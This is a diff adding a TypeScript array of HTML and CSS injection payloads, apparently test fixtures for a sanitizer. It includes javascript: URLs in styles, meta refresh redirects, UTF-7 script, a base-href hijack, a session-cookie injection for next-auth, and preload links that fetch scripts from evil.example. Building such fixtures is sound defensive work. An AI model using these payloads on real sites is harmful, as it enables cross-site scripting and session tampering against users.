@@ -1,0 +1,21 @@
+/** Styles and heads that reach beyond themselves. */
+export const stylesAndHeads = [
+  '<style>li{list-style-image:url("javascript:alert(1)")}</style><ul><li>x',
+  '<style>*{background:url(https://evil.example/x)}</style>',
+  '<p style="width:expression(alert(1))">x</p>',
+  '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>',
+  '<p style="behavior:url(x.htc)">x</p>',
+  '<p style="background-image:\\0075\\0072\\006C(javascript:alert(1))">x</p>',
+  '<link rel=import href="https://evil.example/x.html">',
+  '<link rel=preload as=script href="https://evil.example/x.js">',
+  '<link rel=modulepreload href="https://evil.example/x.js">',
+  '<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">',
+  '<meta http-equiv="refresh" content="0;javascript:alert(1)">',
+  '<meta http-equiv="Set-Cookie" content="next-auth.session-token=x">',
+  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
+  '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
+  '<base href="javascript:alert(1)//"><a href="x">x</a>',
+  '<base target="_top">',
+  '<html manifest="https://evil.example/x">',
+  '<xml id=x><a><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></a></xml>',
+]
